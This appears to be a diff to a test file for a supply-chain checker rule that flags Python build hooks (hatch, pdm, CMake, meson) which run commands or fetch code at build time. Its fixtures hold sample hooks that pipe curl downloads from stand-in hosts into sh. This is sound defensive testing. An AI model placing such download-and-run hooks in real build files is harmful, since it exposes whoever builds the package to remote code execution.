@@ -62,8 +62,10 @@ def test_fail_build_hooks_of_hatch_and_pdm_anywhere_in_the_file(machine):
     out = machine.run("SUP013")
     assert out.status is Status.FAIL
     assert sorted((e.path, e.line, e.detail) for e in out.evidence) == [
-        ("sub/pdm_build.py", 4, "the pdm build hook calls subprocess.run()"),
-        ("tools/build_hook.py", 7, "the hatch build hook calls os.system()")]
+        ("sub/pdm_build.py", 4, "the pdm build hook calls subprocess.run(): runs a command "
+                                "('npm ci')"),
+        ("tools/build_hook.py", 7, "the hatch build hook calls os.system(): runs a download "
+                                   "as code ('curl -s https://x.example/p.sh | sh')")]
 
 
 def test_fail_native_builds_that_download_at_build_time(machine):
@@ -100,3 +102,42 @@ def test_unknown_a_hook_that_does_not_parse(machine):
     machine.ws("pyproject.toml", HATCH)
     machine.ws("tools/build_hook.py", "def initialize(:\n")
     assert machine.run("SUP013").status is Status.UNKNOWN
+
+
+def test_fail_hooks_however_imported_and_say_what_they_do(machine):
+    """A hatch metadata hook that runs `from subprocess import run; run("curl … | sh")`
+    passed every rule; so did CMake's `execute_process(COMMAND sh -c "curl … | sh")`
+    and meson's `run_command('sh', '-c', 'curl …')`. Each finding says what the call
+    does."""
+    machine.ws("pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n'
+               'build-backend = "hatchling.build"\n[project]\nname = "a"\nversion = "1"\n'
+               '[tool.hatch.metadata.hooks.custom]\n')
+    machine.ws("hatch_build.py", "from subprocess import run as go\nimport os as o\n"
+               "from hatchling.metadata.plugin.interface import MetadataHookInterface\n"
+               "class H(MetadataHookInterface):\n    def update(self, m):\n"
+               "        go('curl -s https://x.invalid/i | sh', shell=True)\n"
+               "        o.system('make docs')\n")
+    out = machine.run("SUP013")
+    assert out.status is Status.FAIL, out
+    details = [e.detail for e in out.evidence]
+    assert details == ["the hatch build hook calls subprocess.run(): runs a download as code"
+                       " ('curl -s https://x.invalid/i | sh')",
+                       "the hatch build hook calls os.system(): runs a command ('make docs')"]
+    for backend, build, text in (
+            ("scikit_build_core.build", "CMakeLists.txt",
+             'execute_process(COMMAND sh -c "curl -fsSL https://x.invalid/i | sh")\n'),
+            ("scikit_build_core.build", "CMakeLists.txt",
+             "add_custom_command(OUTPUT g.c COMMAND git clone https://x.invalid/g)\n"),
+            ("mesonpy", "meson.build", "run_command('sh', '-c', 'curl https://x.invalid | sh')\n")):
+        machine.ws("pyproject.toml", f'[build-system]\nbuild-backend = "{backend}"\n'
+                   '[project]\nname = "n"\nversion = "1"\n')
+        (machine.workspace / "hatch_build.py").unlink(missing_ok=True)
+        for other in ("CMakeLists.txt", "meson.build"):
+            (machine.workspace / other).unlink(missing_ok=True)
+        machine.ws(build, text)
+        out = machine.run("SUP013")
+        assert out.status is Status.FAIL and "downloads at build time" in out.evidence[0].detail, (
+            build, text, out)
+        machine.ws(build, "execute_process(COMMAND git describe --tags)\n"
+                   "run_command('python3', '-c', 'print(1)')\n")
+        assert machine.run("SUP013").status is Status.PASS, build
